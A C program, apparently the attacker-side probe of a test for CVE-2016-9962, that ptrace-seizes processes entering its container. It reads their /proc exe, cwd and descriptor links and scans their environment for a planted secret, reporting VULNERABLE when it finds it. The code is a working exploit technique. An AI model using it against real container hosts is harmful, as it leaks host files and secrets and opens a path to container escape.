/* The attacker's program for CVE-2016-9962: inside a container, with CAP_SYS_PTRACE, it waits for a newcomer in its PID namespace
 * and takes hold of it before it has become the user's program. Of each state of a newcomer in which it was stopped it says what
 * there was to be had:
 *
 *   exe PATH             what it was executed from
 *   cwd PATH             where it was
 *   fd PATH              one of its descriptors beyond stdin, stdout and stderr
 *   VULNERABLE secret    the word "hunter2", which the caller of the runtime has in its environment, stands in the newcomer's
 *
 * until a file named /stop is there.
 */
#include "bare.h"

#define PTRACE_SEIZE 0x4206
#define PTRACE_INTERRUPT 0x4207
#define PTRACE_DETACH 17
#define __WALL 0x40000000

/* Says what a link of procfs leads to. */
static void tell(const char *word, const char *path)
{
	char target[512];
	long n = call(SYS_readlinkat, AT_FDCWD, (long)path, (long)target, sizeof target - 1, 0);
	if (n < 0)
		return;
	target[n] = 0;
	say(word, target);
}

static int has_secret(const char *path)
{
	static char text[65536];
	const char *secret = "hunter2";
	long fd = call(SYS_openat, AT_FDCWD, (long)path, 0, 0, 0);
	if (fd < 0)
		return 0;
	long n = call(SYS_read, fd, (long)text, sizeof text, 0, 0);
	call(SYS_close, fd, 0, 0, 0, 0);
	for (long at = 0; at + 7 <= n; at++) {
		int same = 0;
		while (same < 7 && text[at + same] == secret[same])
			same++;
		if (same == 7)
			return 1;
	}
	return 0;
}

static void search(long pid)
{
	char path[96];
	tell("exe", join(path, "/proc/", pid, "/exe"));
	tell("cwd", join(path, "/proc/", pid, "/cwd"));
	for (long fd = 3; fd < 64; fd++) {
		char directory[96];
		join(directory, "/proc/", pid, "/fd/");
		tell("fd", join(path, directory, fd, ""));
	}
	if (has_secret(join(path, "/proc/", pid, "/environ")))
		say("VULNERABLE", "secret");
}

void begin(long *stack)
{
	char path[64];
	long self = call(SYS_readlinkat, AT_FDCWD, (long)"/proc/self", (long)path, sizeof path - 1, 0), own = 0;
	for (long digit = 0; digit < self; digit++)
		own = own * 10 + path[digit] - '0';
	(void)stack, (void)is;
	while (call(SYS_faccessat, AT_FDCWD, (long)"/stop", 0, 0, 0) != 0)
		for (long pid = own + 1; pid < own + 60; pid++) {
			if (call(SYS_ptrace, PTRACE_SEIZE, pid, 0, 0, 0) != 0)
				continue;
			call(SYS_ptrace, PTRACE_INTERRUPT, pid, 0, 0, 0);
			if (call(SYS_wait4, pid, 0, __WALL, 0, 0) == pid)
				search(pid);
			call(SYS_ptrace, PTRACE_DETACH, pid, 0, 0, 0);
		}
	call(SYS_exit, 7, 0, 0, 0, 0);
}
